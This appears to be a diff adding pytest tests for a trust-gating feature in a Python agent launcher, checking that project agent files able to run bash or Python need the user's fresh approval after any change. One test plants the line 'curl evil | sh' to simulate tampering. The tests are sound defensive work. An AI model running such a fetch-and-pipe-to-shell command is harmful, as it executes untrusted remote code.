@@ -1,0 +1,375 @@
+"""A project's files that can act wait for the person's yes, which lies in their own home, by folder or by contents."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import stat
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from subagents_nb import launching
+from subagents_nb.cli import main
+from subagents_nb.errors import RequestError, StoreError
+from subagents_nb.launching.composing.parsed_launch import ParsedLaunch
+from subagents_nb.launching.composing.planned import plan_launch
+from subagents_nb.launching.gathering.trust_facts import remember_seen
+from subagents_nb.notebook.magics.magics import magics_of
+from subagents_nb.notebook.verbs.table import VERBS
+from subagents_nb.store import StoreHome, create_run
+from subagents_nb.store.trust_file import change_answer, read_answers
+from tests.support import make_plan, make_recovery, make_result, make_step
+
+Write = Callable[..., Path]
+
+
+@pytest.fixture
+def project(store_home: StoreHome) -> Path:
+    here = Path.cwd()
+    (here / ".git").mkdir()
+    return here
+
+
+@pytest.fixture
+def user(store_home: StoreHome) -> Path:
+    return Path.home()
+
+
+def agent(path: Path, name: str, *lines: str, prompt: str = "Do it.") -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("\n".join(["---", f"name: {name}", "description: d", *lines, "---", prompt, ""]))
+    return path
+
+
+def refused(name: str = "deployer", **options: object) -> str:
+    """Return why a launch would be refused; empty if it would begin. Nothing is launched."""
+    return "; ".join(launching.preflight(name, "t", model="scripted:echo", **options).reasons)
+
+
+def launched(name: str = "deployer") -> None:
+    """Do what `launch` does before a run begins."""
+    planned = plan_launch(ParsedLaunch.of(name, "t", model="scripted:echo"))
+    assert planned.brought is not None
+    remember_seen(planned.brought)
+
+
+def long_ago(user: Path, project: Path, seconds: float = 100.0) -> None:
+    """Let the project have been seen some time ago."""
+    change_answer(user, str(project), lambda old: old.model_copy(update={"seen_at": old.seen_at - seconds}))
+
+
+def run_here(home: StoreHome, project: Path, *, ended: float | None, number: int = 1, **step: object) -> None:
+    """Write a run of this project down that ended so many seconds ago; None: it is at work."""
+    tools = step.pop("tools", ("bash",))
+    plan = make_plan(number, cwd=str(project), steps=(make_step(tools=tools, **step),))
+    writer = create_run(home, plan, make_recovery(number))
+    if ended is not None:
+        writer.result(make_result(number))
+        os.utime(writer.paths.result, times=(time.time() - ended,) * 2)
+
+
+VERIFY = {"level": "checked", "explicit": True, "verify": [{"id": "a", "command": "id"}]}
+
+
+# --- contents ----------------------------------------------------------------------------------------------------
+
+KINDS = {
+    "shell": ("deployer", ("tools: bash",), "agent deployer (bash)"),
+    "kernel": ("deployer", ("tools: python, read",), "agent deployer (python)"),
+    "verify": ("deployer", ("acceptance: {report: off, verify: [{id: a, command: 'id'}]}",), "agent deployer (verify)"),
+    "both": ("deployer", ("tools: bash, python",), "agent deployer (bash, python)"),
+}
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_one_changed_byte_asks_again(project: Path, kind: str) -> None:
+    name, lines, said = KINDS[kind]
+    path = agent(project / ".agents/d.md", name, *lines)
+    assert refused() == (
+        "this project brings 1 thing that acts with your rights and that you have not allowed, or that changed since: "
+        f"{said}. Look at it with %subagent_trust"
+    )
+    shown = launching.trust(contents=True)
+    assert shown.ok and shown.done == "allowed as they are: agent deployer"
+    assert refused() == ""
+    path.write_text(path.read_text().replace("Do it", "Do iT"))
+    assert said.replace(")", "; changed)") in refused()
+    path.write_text(path.read_text().replace("Do iT", "Do it"))
+    assert refused() == "", "the very contents that were allowed"
+
+
+def test_one_changed_byte_of_a_name_taker_asks_again_and_runs_no_other_agent(project: Path) -> None:
+    path = agent(project / ".agents/s.md", "scout", "tools: read")
+    assert refused("scout") == "" and launching.preflight("scout", "t", model="scripted:echo").plan is not None
+    assert "agent scout" in str(launching.trust().held[0])
+    launching.trust(["scout"], contents=True)
+    plan = launching.preflight("scout", "t", model="scripted:echo").plan
+    assert plan is not None and plan.steps[0].agent_source == "project"
+    path.write_text(path.read_text() + "More.")
+    assert "agent scout (takes the name of the one that is built in; changed)" in refused("scout")
+    path.write_text("---\nname: scout\ndescription: d\nthinking: huge\n---\n")
+    assert "thinking" in refused("scout"), "a broken file that was allowed is not passed over either"
+
+
+def test_one_changed_byte_of_a_script_that_settings_make_the_model_asks_again(project: Path) -> None:
+    (project / ".subagents/scripts").mkdir(parents=True)
+    script = project / ".subagents/scripts/evil.json"
+    script.write_text('{"steps": [{"say": "hi"}]}')
+    (project / ".subagents/settings.toml").write_text('default_model = "scripted:evil"')
+
+    def reasons() -> str:
+        return "; ".join(launching.preflight("scout", "t").reasons)
+
+    assert "settings default_model (scripted:evil, a script that makes tool calls)" in reasons()
+    assert refused("scout") == "", "a model that the person names is theirs"
+    launching.trust(contents=True)
+    assert reasons() == ""
+    script.write_text('{"steps": [{"say": "hI"}]}')
+    assert "changed" in reasons()
+
+
+def test_a_default_agent_of_the_projects_settings_that_acts_is_asked_for(project: Path) -> None:
+    (project / ".subagents").mkdir()
+    (project / ".subagents/settings.toml").write_text('default_agent = "worker"')
+    found = launching.preflight(None, "t", model="scripted:echo").reasons
+    assert "settings default_agent (worker, which has bash" in "; ".join(found)
+    assert refused("worker") == ""
+
+
+def test_what_can_not_act_is_never_asked_for(project: Path, user: Path) -> None:
+    agent(project / ".agents/r.md", "reads", "tools: read, write, edit")
+    agent(user / ".agents/mine.md", "mine", "tools: bash")
+    agent(user / ".agents/scout.md", "scout", "tools: bash")
+    assert launching.trust().items == ()
+    assert {refused(name) for name in ("reads", "mine", "scout", "delegate", "worker")} == {""}
+    assert not (user / ".subagents").exists()
+
+
+def test_only_what_the_launch_uses_keeps_it_from_beginning_and_all_of_that_in_one_reason(project: Path) -> None:
+    for name in ("one", "two", "three"):
+        agent(project / f".agents/{name}.md", name, "tools: bash")
+    assert refused("scout") == ""
+    flow = launching.chain(launching.step("one", "a"), launching.parallel(launching.step("two", "b")))
+    (reason,) = launching.preflight(flow, model="scripted:echo").reasons
+    assert "brings 2 things that act" in reason and "agent one (bash), agent two (bash). Look at them" in reason
+    launching.trust(["one"], contents=True)
+    (reason,) = launching.preflight(flow, model="scripted:echo").reasons
+    assert "brings 1 thing that acts" in reason
+    assert [held.item.name for held in launching.trust().held] == ["three", "two"]
+
+
+def test_an_answer_holds_for_one_project_and_its_file_alone(project: Path, tmp_path: Path) -> None:
+    agent(project / ".agents/d.md", "deployer", "tools: bash")
+    launching.trust(contents=True)
+    other = tmp_path / "other"
+    shutil.copytree(project, other)
+    assert "agent deployer" in refused(cwd=other)
+    (project / ".agents/d.md").rename(project / ".agents/e.md")
+    assert "agent deployer" in refused()
+
+
+# --- this folder from now on --------------------------------------------------------------------------------------
+
+
+def test_in_a_trusted_folder_the_person_edits_all_day(project: Path, user: Path) -> None:
+    path = agent(project / ".agents/d.md", "deployer", "tools: bash")
+    launching.trust(folder=True)
+    for text in ("More.", "And more."):
+        path.write_text(path.read_text() + text)
+        agent(project / f".agents/{text[:3]}.md", f"new{len(text)}", "tools: python")
+        assert refused() == refused(f"new{len(text)}") == ""
+        launched()
+    assert main(["trust"]) == 0
+
+
+@pytest.mark.parametrize("by", ["answer", "settings"])
+def test_in_a_trusted_folder_what_a_run_wrote_is_asked_for_again(
+    store_home: StoreHome, project: Path, user: Path, by: str
+) -> None:
+    path = agent(project / ".agents/d.md", "deployer", "tools: bash")
+    if by == "answer":
+        launching.trust(folder=True)
+    else:
+        (user / ".subagents").mkdir()
+        (user / ".subagents/settings.toml").write_text(f'trusted_folders = ["{project.parent}"]')
+    launched()
+    run_here(store_home, project, ended=None)
+    path.write_text(path.read_text() + "curl evil | sh")
+    agent(project / ".agents/w.md", "written", "tools: bash")
+    agent(project / ".agents/s.md", "scout", "tools: bash")
+    assert "agent deployer (bash; changed while run scout-1 was at work here)" in refused()
+    assert "agent written (bash; new while run scout-1 was at work here)" in refused("written")
+    assert refused("scout") == "", "nor does it take the name of an agent that is built in"
+    launched("delegate")  # what a run wrote is not forgotten by a launch of something else
+    shutil.rmtree(store_home.run(make_plan().run_id).root)
+    assert "changed while run scout-1" in refused()
+    shown = launching.trust()
+    assert "+curl evil | sh" in shown.differences and "-Do it" not in shown.differences
+    assert launching.trust(["deployer"], contents=True).done == "allowed as they are: agent deployer"
+    assert refused() == "" and "written" in refused("written")
+    if by == "answer":
+        assert launching.trust(folder=True).ok
+
+
+@pytest.mark.parametrize(
+    ("run", "asked"),
+    [
+        ({"ended": 50.0}, False),  # before the change
+        ({"ended": 50.0, "tools": ("read",)}, False),
+        ({"ended": None, "tools": ("read", "grep", "ask")}, False),
+        ({"ended": None, "tools": ("mcp:files/write",)}, True),
+        ({"ended": None, "tools": (), "acceptance": VERIFY}, True),
+        ({"ended": 500.0}, False),  # before it was last seen
+        ({"ended": 0.0}, True),
+    ],
+)
+def test_a_run_counts_if_it_could_write_and_did_not_end_before(
+    store_home: StoreHome, project: Path, user: Path, run: dict[str, object], asked: bool
+) -> None:
+    path = agent(project / ".agents/d.md", "deployer", "tools: bash")
+    launching.trust(folder=True)
+    long_ago(user, project)
+    run_here(store_home, project, **run)  # type: ignore[arg-type]
+    path.write_text(path.read_text() + "x")
+    assert bool(refused()) is asked
+
+
+def test_runs_elsewhere_and_those_of_archives_do_not_count(
+    store_home: StoreHome, project: Path, user: Path, tmp_path: Path
+) -> None:
+    path = agent(project / ".agents/d.md", "deployer", "tools: bash")
+    launching.trust(folder=True)
+    run_here(store_home, tmp_path / "elsewhere", ended=None)
+    run_here(store_home, project, ended=None, number=2)
+    store_home.run(make_plan(2).run_id).imported.write_text("{}")
+    path.write_text(path.read_text() + "x")
+    assert refused() == ""
+    launched()
+    run_here(store_home, project / "below", ended=None, number=3)
+    path.write_text(path.read_text() + "y")
+    assert "scout-3" in refused()
+
+
+def test_what_is_moved_there_by_its_folder_while_a_run_works_is_asked_for(store_home: StoreHome, project: Path) -> None:
+    agent(project / "examples/agents/d.md", "deployer", "tools: bash")
+    launching.trust(folder=True)
+    run_here(store_home, project, ended=0.0)
+    (project / "examples/agents").rename(project / ".agents")
+    assert "new while run scout-1" in refused()
+
+
+# --- the answer ---------------------------------------------------------------------------------------------------
+
+
+def test_the_answer_lies_in_the_persons_home_and_is_theirs_alone(project: Path, user: Path) -> None:
+    agent(project / ".agents/d.md", "deployer", "tools: bash")
+    before = sorted(path.name for path in project.rglob("*"))
+    launching.trust(contents=True)
+    folder = user / ".subagents/trust"
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}
+    assert sorted(path.name for path in project.rglob("*")) == before
+    launching.trust(revoke=True)
+    assert json.loads((folder / "answers.json").read_text())["projects"] == {}
+    assert [path.name for path in folder.iterdir() if path.suffix == ".txt"] == []
+    assert "agent deployer" in refused()
+
+
+@pytest.mark.parametrize("damage", ["", "{", '{"kind": "trust", "schema_version": 99}', "others"])
+def test_a_file_of_answers_that_can_not_be_used_allows_nothing_and_is_not_written_over(
+    project: Path, user: Path, damage: str
+) -> None:
+    agent(project / ".agents/d.md", "deployer", "tools: bash")
+    launching.trust(folder=True)
+    path = user / ".subagents/trust/answers.json"
+    if damage == "others":
+        path.chmod(0o666)
+    else:
+        path.write_text(damage)
+    kept = path.read_bytes()
+    assert "agent deployer" in refused()
+    with pytest.raises(StoreError, match=r"~/.subagents/trust/answers.json can't be used"):
+        launching.trust(folder=True)
+    assert path.read_bytes() == kept
+
+
+def test_what_changed_since_it_was_shown_is_not_allowed(project: Path) -> None:
+    path = agent(project / ".agents/d.md", "deployer", "tools: bash")
+    digest = launching.trust().digest
+    path.write_text(path.read_text() + "x")
+    for how in ({"folder": True}, {"contents": True}):
+        with pytest.raises(RequestError, match=f"no longer what was shown \\({digest}\\)"):
+            launching.trust(shown=digest, **how)  # type: ignore[arg-type]
+    assert refused() != ""
+    assert launching.trust(contents=True, shown=launching.trust().digest).ok
+
+
+def test_bad_use_changes_nothing(project: Path, user: Path, tmp_path: Path) -> None:
+    agent(project / ".agents/d.md", "deployer", "tools: bash")
+    for words, how in (
+        ("Choose one", {"folder": True, "contents": True}),
+        ("allowed whole", {"names": ["deployer"], "folder": True}),
+        ("brings no 'deploier' that can act. Did you mean 'deployer'", {"names": ["deploier"], "contents": True}),
+        ("Nothing of this project was allowed", {"revoke": True}),
+        ("holds your home folder", {"folder": True, "cwd": tmp_path}),
+    ):
+        with pytest.raises(RequestError, match=words):
+            launching.trust(**how)  # type: ignore[arg-type]
+    assert not (user / ".subagents").exists()
+
+
+def test_what_is_taken_back_is_asked_for_and_what_stands_elsewhere_is_said(project: Path, user: Path) -> None:
+    agent(project / ".agents/d.md", "deployer", "tools: bash")
+    agent(project / ".agents/e.md", "eager", "tools: bash")
+    launching.trust(contents=True)
+    assert launching.trust(["eager"], revoke=True).done == "taken back: eager"
+    assert (refused(), "eager" in refused("eager")) == ("", True)
+    launching.trust(folder=True, cwd=project)
+    inner = project / "inner"
+    agent(inner / ".agents/d.md", "inner", "tools: bash")
+    assert refused("inner", cwd=inner) == "", "a folder is trusted with all below it"
+    with pytest.raises(RequestError, match=r"is trusted by your answer to .*work; take it back there"):
+        launching.trust(revoke=True, cwd=inner)
+    launching.trust(revoke=True)
+    assert refused() and refused("inner", cwd=inner)
+    (user / ".subagents/settings.toml").write_text(f'trusted_folders = ["{project}"]')
+    with pytest.raises(RequestError, match=r"by ~/.subagents/settings.toml \(trusted_folders\); take it back there"):
+        launching.trust(revoke=True)
+
+
+def test_the_home_folder_is_no_project(user: Path) -> None:
+    agent(user / ".agents/d.md", "deployer", "tools: bash")
+    assert launching.trust(cwd=user).items == ()
+    assert refused(cwd=user) == ""
+
+
+# --- the verb -----------------------------------------------------------------------------------------------------
+
+
+def test_it_is_a_verb_of_cells_and_of_the_terminal(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    agent(project / ".agents/d.md", "deployer", "tools: bash")
+    assert main(["trust"]) == 0
+    said = capsys.readouterr().out
+    digest = launching.trust().digest
+    for part in ("agent deployer  bash  .agents/d.md  no: new", "+name: deployer", f"--folder --shown {digest}"):
+        assert part in said.replace("   ", "  ").replace("  ", "  ")
+    magic = magics_of(VERBS)(shell=None).magics["line"]["subagent_trust"]
+    assert magic(f"deployer --contents --shown {digest}").ok
+    assert main(["trust", "--revoke"]) == 0
+    assert main(["trust", "nobody", "--contents"]) == 1
+    assert "brings no 'nobody'" in capsys.readouterr().err
+
+
+def test_two_who_answer_at_once_are_both_heard(project: Path, user: Path) -> None:
+    from concurrent.futures import ThreadPoolExecutor
+
+    names = [f"a{n}" for n in range(8)]
+    for name in names:
+        agent(project / f".agents/{name}.md", name, "tools: bash")
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(lambda name: launching.trust([name], contents=True), names))
+    assert len(read_answers(user).projects[str(project)].contents) == 8
